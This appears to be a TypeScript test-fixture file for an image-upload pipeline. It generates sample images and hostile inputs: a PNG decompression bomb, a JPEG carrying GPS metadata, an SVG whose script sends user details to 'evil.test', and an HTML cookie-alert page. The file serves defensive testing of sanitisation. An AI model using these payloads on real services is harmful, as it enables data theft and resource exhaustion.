import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A banded gradient with a few blocks, different for every seed. */
export async function productPng(width = 1000, height = 750, seed = 0): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      // Bands of 8 px: compresses like a flat product shot (about 20 KB at 800x600).
      pixels[i] = (((x >> 3) << 3) * 255) / width;
      pixels[i + 1] = (((y >> 3) << 3) * 255) / height;
      pixels[i + 2] = (seed * 37) % 256;
    }
  }
  const side = Math.max(4, Math.floor(Math.min(width, height) / 8));
  const block = (n: number) => ({
    input: { create: { width: side, height: side, channels: 3 as const, background: { r: (seed * 53 + n * 80) % 256, g: 40, b: 90 } } },
    left: (seed * 13 + n * 3 * side) % (width - side),
    top: (n * 2 * side) % (height - side),
  });
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .composite([block(0), block(1), block(2)])
    .png({ compressionLevel: 9 })
    .toBuffer();
}

export const RED_LEFT_BLUE_RIGHT = { width: 300, height: 100 };

/**
 * A 300x100 photo, red left half / blue right half, stored sideways: EXIF orientation 6 says
 * "rotate 90° clockwise to display", so it shows as 100x300, red on top. It also carries GPS and a
 * camera make that must not survive.
 */
export async function sidewaysJpegWithGps(): Promise<Buffer> {
  const { width, height } = RED_LEFT_BLUE_RIGHT;
  return sharp({ create: { width, height, channels: 3, background: { r: 0, g: 0, b: 255 } } })
    .composite([{ input: { create: { width: width / 2, height, channels: 3, background: { r: 255, g: 0, b: 0 } } }, left: 0, top: 0 }])
    .jpeg({ quality: 95 })
    .withExif({ IFD0: { Make: 'SecretPhone' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '12/1 58/1 1234/100' } })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** A photo-like JPEG (noise does not compress away), cut in half. */
export async function truncatedJpeg(): Promise<Buffer> {
  const size = 400;
  const noise = Buffer.alloc(size * size * 3);
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 7919 + (i >> 7) * 31) % 251;
  const whole = await sharp(noise, { raw: { width: size, height: size, channels: 3 } })
    .jpeg()
    .toBuffer();
  return whole.subarray(0, Math.floor(whole.length / 2));
}

function crc32(buf: Buffer): number {
  let c = ~0;
  for (const byte of buf) {
    c ^= byte;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/**
 * A valid decompression bomb: a 1-bit greyscale PNG of side x side white pixels. 30000² is 900
 * megapixels (gigabytes once decoded as RGB) in about 110 KB of file.
 */
export function bombPng(side = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil(side / 8); // filter byte + packed pixels
  const idat = deflateSync(Buffer.alloc(rowBytes * side), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', idat),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
    '<script>fetch("/api/user/user-details").then(r=>r.text()).then(t=>new Image().src="//evil.test/?"+t)</script>' +
    '<rect width="100" height="100" fill="red"/></svg>',
);

export const htmlPage = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');

/** Decode a served variant to check its pixels and that nothing but pixels survived. */
export async function inspectWebp(body: Buffer) {
  const meta = await sharp(body).metadata();
  const { data, info } = await sharp(body).raw().toBuffer({ resolveWithObject: true });
  const pixel = (x: number, y: number) => {
    const i = (y * info.width + x) * info.channels;
    return { r: data[i]!, g: data[i + 1]!, b: data[i + 2]! };
  };
  return { meta, pixel };
}
